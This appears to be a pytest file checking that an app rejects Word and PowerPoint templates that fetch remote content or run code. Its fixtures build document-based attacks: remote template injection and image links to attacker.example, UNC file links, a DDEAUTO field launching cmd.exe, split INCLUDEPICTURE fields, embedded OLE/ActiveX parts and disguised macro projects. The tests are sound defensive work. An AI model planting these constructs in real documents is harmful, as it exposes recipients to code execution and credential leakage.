"""Templates that would have every file made with them fetch or start something."""

import io
import zipfile

import pytest
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from docx.shared import Cm
from PIL import Image
from pptx import Presentation
from pptx.chart.data import CategoryChartData
from pptx.enum.chart import XL_CHART_TYPE

from materiality.exports.chapter import chapter_docx
from materiality.exports.deck import deck_pptx
from materiality.house_style.selectors import look_of
from materiality.models import HouseStyle
from scoping.models import Assessment
from tests.materiality.chapters import analysed as results_of
from tests.materiality.chapters import ranked
from tests.materiality.house_style.test_house_style import altered, saved, slides, upload, word
from tests.support.factories import AssessmentFactory

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
AWAY = "http://attacker.example/t.dotm"
HEADER = "word/header1.xml"


def related(content: bytes, part: str, kind: str, target: str, *, external: bool = True) -> bytes:
    """The archive with one more relation of a part."""
    folder, _, name = part.rpartition("/")
    path = f"{folder}/_rels/{name}.rels"
    mode = ' TargetMode="External"' if external else ""
    new = f'<Relationship Id="rIdNew" Type="{kind}" Target="{target}"{mode}/>'
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        found = file.read(path).decode() if path in file.namelist() else ""
    found = found or (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    )
    return altered(content, **{path.replace(".", "__"): found.replace("</Rel", f"{new}</Rel").encode()})


def with_header(xml: str) -> bytes:
    document = Document(io.BytesIO(word()))
    document.sections[0].header._element.append(parse_xml(f"<w:p {nsdecls('w')}>{xml}</w:p>"))
    return saved(document)


def field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return with_header(
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def typed(content: bytes, part: str, kind: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        types = file.read("[Content_Types].xml").decode()
    override = f'<Override PartName="/{part}" ContentType="{kind}"/></Types>'
    named = {"[Content_Types]__xml": types.replace("</Types>", override).encode(), part.replace(".", "__"): b"x"}
    return altered(content, **named)


WORD = {
    "template": (
        related(word(), "word/settings.xml", f"{RELATIONS}/attachedTemplate", AWAY),
        "word/_rels/settings.xml.rels attaches another template, http://attacker.example/t.dotm",
    ),
    "template on a server": (
        related(word(), "word/settings.xml", f"{RELATIONS}/attachedTemplate", r"file:///\\files\t.dotx"),
        "attaches another template",
    ),
    "picture": (
        related(word(), HEADER, f"{RELATIONS}/image", "http://attacker.example/p.png"),
        "word/_rels/header1.xml.rels links to http://attacker.example/p.png",
    ),
    "picture, not told to be outside": (
        related(word(), HEADER, f"{RELATIONS}/image", "http://attacker.example/p.png", external=False),
        "links to http://attacker.example/p.png",
    ),
    "object of the text": (
        related(word(), "word/document.xml", f"{RELATIONS}/oleObject", "http://attacker.example/o"),
        "an object of another program",
    ),
    "link to a file": (
        related(word(), HEADER, f"{RELATIONS}/hyperlink", r"file:///\\attacker.example\x"),
        "links to file:",
    ),
    "file taken in": (
        related(word(), "word/document.xml", f"{RELATIONS}/aFChunk", "chunk.html", external=False),
        "chunk.html is an object",
    ),
    "add-in": (
        related(
            word(),
            "word/document.xml",
            "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
            "taskpanes.xml",
            external=False,
        ),
        "an add-in",
    ),
    "embedded": (altered(word(), **{"word/embeddings/oleObject1__bin": b"x"}), "word/embeddings/oleObject1.bin is"),
    "control": (altered(word(), **{"word/activeX/activeX1__xml": b"<a/>"}), "word/activeX/activeX1.xml is"),
    "macros by another name": (
        typed(word(), "word/harmless.bin", "application/vnd.ms-office.vbaProject"),
        "/word/harmless.bin holds macros",
    ),
    "field in pieces": (field(" INCLU", "DEPICTURE ", '"http://attacker.example/p.png"'), "header1.xml holds INCLUDEP"),
    "DDE": (field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), "header1.xml holds DDEAUTO"),
    "simple field": (
        with_header('<w:fldSimple w:instr=" includetext &quot;http://attacker.example/t&quot; "/>'),
        "header1.xml holds INCLUDETEXT",
    ),
    "old picture": (
        with_header('<w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:imagedata '
                    'src="//attacker.example/p.png"/></v:shape></w:pict></w:r>'),
        "header1.xml links to //attacker.example/p.png",
    ),
    "document type": (
        altered(word(), **{"word/extra__xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        "word/extra.xml is damaged",
    ),
}  # fmt: skip
SLIDES = {
    "master": ("ppt/slideMasters/slideMaster1.xml", "image", "ppt/slideMasters/_rels/slideMaster1.xml.rels links to"),
    "layout": ("ppt/slideLayouts/slideLayout1.xml", "audio", "ppt/slideLayouts/_rels/slideLayout1.xml.rels links to"),
    "presentation": ("ppt/presentation.xml", "oleObject", "an object of another program"),
}


@pytest.mark.parametrize("case", WORD)
def test_a_word_template_that_fetches_or_starts_something_is_refused(house, owner_client, case: str):
    content, message = WORD[case]
    response = upload(owner_client, "docx", content, "house.docx")
    assert response.status_code == 400
    assert message in str(response.context["templates"][0][3].errors).replace("&amp;", "&")
    assert look_of(house.organisation).docx is None


@pytest.mark.parametrize("case", SLIDES)
def test_a_powerpoint_template_that_fetches_or_starts_something_is_refused(house, owner_client, case: str):
    part, kind, message = SLIDES[case]
    content = related(slides(), part, f"{RELATIONS}/{kind}", "http://attacker.example/p")
    response = upload(owner_client, "pptx", content, "house.pptx")
    assert response.status_code == 400
    assert message in str(response.context["templates"][1][3].errors)
    assert look_of(house.organisation).pptx is None


def test_what_is_harmless_is_taken(house, owner_client):
    template = related(word(), HEADER, f"{RELATIONS}/hyperlink", "https://house.example/")
    assert upload(owner_client, "docx", template, "house.docx").status_code == 302
    assert upload(owner_client, "docx", field(" PAGE "), "house.docx").status_code == 302
    deck = Presentation()
    data = CategoryChartData()
    data.categories = ["a"]
    data.add_series("b", (1,))
    places = (0, 0, Cm(5), Cm(5))
    deck.slides.add_slide(deck.slide_layouts[5]).shapes.add_chart(XL_CHART_TYPE.PIE, *places, data)
    assert upload(owner_client, "pptx", saved(deck), "house.pptx").status_code == 302


def test_templates_of_before_do_not_get_into_files(house, assessment: Assessment):
    """Kept without this check."""
    results = results_of(*ranked(["Water"]))
    HouseStyle.objects.create(
        organisation=house.organisation,
        docx_template=WORD["template"][0],
        pptx_template=related(slides(), SLIDES["master"][0], f"{RELATIONS}/image", "http://attacker.example/p"),
    )
    look = look_of(house.organisation)
    with pytest.raises(ValueError, match=r"Word template cannot be used.*settings\.xml\.rels.*upload it again"):
        chapter_docx(results, assessment, look.docx)
    with pytest.raises(ValueError, match=r"PowerPoint template cannot be used.*slideMaster1\.xml\.rels"):
        deck_pptx(results, assessment, template=look.pptx)


def test_of_a_template_only_its_frame_gets_into_files(db: None):
    """Not what belonged to its text, nor the path on somebody's disk that it was made from."""
    picture = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(picture, "PNG")
    document = Document(io.BytesIO(word()))
    document.add_picture(picture)
    document.part.relate_to("https://old.example/", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    own = related(saved(document), "word/settings.xml", f"{RELATIONS}/attachedTemplate", r"file:///C:\Users\me\t.dotx")
    with zipfile.ZipFile(io.BytesIO(own)) as file:
        settings = file.read("word/settings.xml").decode()
    at = settings.index(">", settings.index("<w:settings")) + 1
    attached = f'{settings[:at]}<w:attachedTemplate xmlns:r="{RELATIONS}" r:id="rIdNew"/>{settings[at:]}'
    template = altered(own, **{"word/settings__xml": attached.encode()})
    written = chapter_docx(None, AssessmentFactory(with_survey=False), template)
    with zipfile.ZipFile(io.BytesIO(written)) as file:
        held = {name: file.read(name) for name in file.namelist()}
    assert HEADER in held
    assert not any(name.startswith("word/media/") for name in held)
    assert not any(word in content for content in held.values() for word in (b"old.example", b"Users", b"attachedT"))
